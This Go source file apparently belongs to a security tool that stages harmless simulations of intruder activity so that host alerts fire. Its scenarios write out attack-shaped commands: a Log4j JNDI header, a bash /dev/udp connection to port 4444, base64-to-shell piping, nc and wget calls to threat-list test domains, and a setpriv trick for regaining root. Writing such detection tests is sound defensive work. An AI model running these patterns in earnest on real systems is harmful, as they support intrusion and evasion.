package simulate

import (
	"context"
	"fmt"
	"net"

	"github.com/holdfast-security/holdfast/detect/indicator"
)

// The scenarios of this file play what an intruder types in a session: exploits,
// hidden commands, strange names and ways out.

var exploitAttempt = Scenario{
	Name:      "exploit-attempt",
	Title:     "a known exploit is sent",
	AlertType: "VM_ExploitAttempt",
	Summary:   "Runs a program named curl with the text of the Log4j exploit in a header. " + harmless,
	Run:       standIn("curl", "-s", "-H", "X-Api-Version: ${jndi:ldap://192.0.2.7/{token}}", "http://192.0.2.8/"),
}

var calderaAgent = Scenario{
	Name:      "caldera-agent",
	Title:     "an agent of an attack framework is started",
	AlertType: "VM_MitreCalderaTools",
	Summary:   "Runs a program with the options of Caldera's agent and a server of the documentation. " + harmless,
	Run:       standIn("splunkd", "-server", "http://192.0.2.7:8888", "-group", "{token}", "-v"),
}

var historyRead = Scenario{
	Name:      "history-read",
	Title:     "a command history is read",
	AlertType: "VM_ReadingHistoryFile",
	Summary:   "Reads a file .bash_history of its own below /tmp with cat(1).",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Write(".bash_history", "# nothing\n")
		if err != nil {
			return err
		}
		return s.ExecDetached(ctx, "cat", path)
	},
}

var socksConnection = Scenario{
	Name:      "socks-connection",
	Title:     "a connection goes through a proxy",
	AlertType: "VM_SuspectConnection",
	Summary:   "Runs a program named curl with the options for a SOCKS proxy at an address of the documentation. " + harmless,
	Run:       standIn("curl", "-s", "--socks5-hostname", "192.0.2.7:1080", "http://{token}.invalid/"),
}

var firstCommand = Scenario{
	Name:      "first-command",
	Title:     "an intruder looks around in a new shell",
	AlertType: "VM_SuspectInitialShellCommand",
	Summary:   "An interactive shell without a terminal reads one line from a pipe, runs id(1) and ends.",
	Run: func(ctx context.Context, s *Stage) error {
		return s.ExecDetached(ctx, "sh", "-c", "echo 'id; exit' | sh -i", s.Token)
	},
}

var suspiciousConnection = Scenario{
	Name:      "suspicious-connection",
	Title:     "a shell connects to an attack tool's port",
	AlertType: "VM_SuspectNetworkConnection",
	Summary: "A shell connects a datagram socket to an address of the documentation, port 4444, and holds it for a " +
		"few seconds. Nothing is sent: connecting such a socket only notes the address.",
	Needs: []Need{NeedRoot, NeedProgram("bash")},
	Run: func(ctx context.Context, s *Stage) error {
		const address = "198.51.100.7"
		if err := routed(address); err != nil {
			return err
		}
		text := "exec 3<>/dev/udp/" + address + "/4444; for i in 1 2 3 4; do read -t 1 -u 3; done"
		return s.ExecDetached(ctx, "bash", "--norc", "-c", text, s.Token)
	},
}

// routed returns a skip where the host has no way to an address. It sends
// nothing.
func routed(address string) error {
	conn, err := net.Dial("udp", net.JoinHostPort(address, "9"))
	if err != nil {
		return skip("no route to %s: %v", address, err)
	}
	return conn.Close()
}

var serviceAccountRoot = Scenario{
	Name:      "service-account-root",
	Title:     "a process of a service's account becomes root",
	AlertType: "VM_SuspectProcessAccountPrivilegeCombo",
	Summary: "Root becomes the account nobody with setpriv(1), keeping the ability to change users; a shell of that " +
		"account then takes root back and runs a program. No account is changed. " + harmless,
	Needs: []Need{NeedRoot, NeedProgram("setpriv")},
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.StandIn("helper")
		if err != nil {
			return err
		}
		// What follows in the text keeps the shell from becoming setpriv itself.
		return s.Exec(ctx, "setpriv", "--reuid=65534", "--inh-caps=+setuid", "--ambient-caps=+setuid",
			"sh", "-c", "setpriv --reuid=0 "+path+"; :", s.Token)
	},
}

var hiddenCommand = Scenario{
	Name:      "hidden-command",
	Title:     "an encoded command is decoded and run",
	AlertType: "VM_SuspiciousCommandLineExecution",
	Summary:   "A shell decodes the word true from base64 and runs it with another shell.",
	Needs:     []Need{NeedProgram("base64")},
	Run: func(ctx context.Context, s *Stage) error {
		return s.Shell(ctx, "echo dHJ1ZQo= | base64 -d | sh")
	},
}

var dnsOverHTTPS = Scenario{
	Name:      "dns-over-https",
	Title:     "a name is resolved past the host's resolver",
	AlertType: "VM_SuspiciousDNSOverHttps",
	Summary:   "Runs a program named curl with the address of a public resolver and a name that never exists. " + harmless,
	Run:       standIn("curl", "-s", "https://cloudflare-dns.com/dns-query?name={token}.invalid&type=TXT"),
}

var suspiciousDomain = Scenario{
	Name:      "suspicious-domain",
	Title:     "a tool is pointed at a name of an intruder's kind",
	AlertType: "VM_CommandlineSuspectDomain",
	Summary:   "Runs a program named curl with a name below a catcher of requests. " + harmless,
	Run:       standIn("curl", "-s", "http://{token}.oast.fun/"),
}

var compositeTest = Scenario{
	Name:      "composite-test",
	Title:     "the agreed test of rules over several events",
	AlertType: "VM_CompTestRule",
	Summary:   "Runs a copy of echo(1) under the agreed name, once with each of the two agreed words.",
	Run: func(ctx context.Context, s *Stage) error {
		path, err := s.Copy("echo", s.Path("holdfast_composite_test"))
		if err != nil {
			return err
		}
		if err := s.Exec(ctx, path, "first"); err != nil {
			return err
		}
		return s.Exec(ctx, path, "second")
	},
}

var listedLocation = Scenario{
	Name:      "listed-location",
	Title:     "a command goes to a place on the lists of malicious ones",
	AlertType: "VM_ThreatIntelCommandLineSuspectDomain",
	Summary:   "Runs a program named nc with the name that every list holds for tests, which never exists. " + harmless,
	Run:       standIn("nc", "{token}."+indicator.TestDomain, "443"),
}

var listedDownload = Scenario{
	Name:      "listed-download",
	Title:     "a file is fetched from a place on the lists of malicious ones",
	AlertType: "VM_SuspectDownload",
	Summary:   "Runs a program named wget with the name that every list holds for tests, which never exists. " + harmless,
	Run:       standIn("wget", "-q", "https://"+indicator.TestDomain+"/{token}.tgz"),
}

var listedLogon = Scenario{
	Name:      "listed-logon",
	Title:     "somebody logs on from an address on the lists of malicious ones",
	AlertType: "VM_ThreatIntelSuspectLogon",
	Summary: fmt.Sprintf("Sends the audit record of an accepted logon of an account that does not exist, from %s, which "+
		"every list holds for tests.", indicator.TestAddress),
	Needs: []Need{NeedAuditWrite},
	Run: func(ctx context.Context, s *Stage) error {
		return sendRecords(ctx, []userRecord{loginRecord(s.Token, indicator.TestAddress)})
	},
}
